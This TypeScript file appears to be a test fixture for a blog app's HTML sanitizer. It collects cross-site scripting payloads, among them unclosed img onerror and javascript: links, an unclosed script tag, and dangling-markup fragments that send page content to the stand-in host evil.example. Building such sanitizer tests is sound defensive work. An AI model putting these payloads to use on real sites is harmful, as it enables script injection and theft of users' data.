import { JS, type XssPayload } from './xss-payload-kit';
import { elements, frames, handlers, schemes, scripts, styles } from './xss-payloads-classic';
import { clobbering } from './xss-payloads-clobbering';
import { eventHandlers } from './xss-payloads-handlers';
import { mutations } from './xss-payloads-mutations';
import { unicode } from './xss-payloads-unicode';

export { XSS_CANARY, type XssPayload } from './xss-payload-kit';

/**
 * Known cross-site scripting payloads, each a standalone HTML fragment (xss-payload-kit.ts says how
 * each one reports that it ran). A test fixture, never seeded for `npm start`: the security-test
 * post (blog-seed-xss.ts) carries them for the server tests and, through a test hook, the e2e suite.
 *
 * A literal U+0000 cannot be stored in a Postgres text column, so null-byte payloads are written as
 * `&#0;` and `%00` (the HTML parser turns `&#0;` into U+FFFD, as it does a raw NUL); raw NULs are
 * tested in src/lib/sanitize.test.ts only.
 */
const unclosed: XssPayload[] = [
  { name: 'unclosed img', html: `<img src=x onerror=${JS} `, endsOpen: true },
  { name: 'unclosed href quote', html: `<a href="javascript:${JS}`, endsOpen: true },
  { name: 'dangling image URL', html: `<img src="https://evil.example/log?`, endsOpen: true },
  { name: 'dangling table background', html: `<table background='https://evil.example/log?`, endsOpen: true },
  {
    name: 'dangling meta refresh',
    html: `<meta http-equiv="refresh" content='0;url=https://evil.example/log?`,
    endsOpen: true,
  },
  { name: 'unclosed script', html: `<script>${JS}`, endsOpen: true },
  { name: 'plaintext', html: `<plaintext><img src=x onerror=${JS}>`, endsOpen: true },
];

const all = [
  scripts,
  handlers,
  eventHandlers,
  schemes,
  unicode,
  frames,
  elements,
  styles,
  mutations,
  clobbering,
].flat();

/** Ordered with the open-ended fragments last (joined, each of them swallows or re-nests what follows). */
export const XSS_PAYLOADS: readonly XssPayload[] = [
  ...all.filter((p) => !p.endsOpen),
  ...all.filter((p) => p.endsOpen),
  ...unclosed,
];
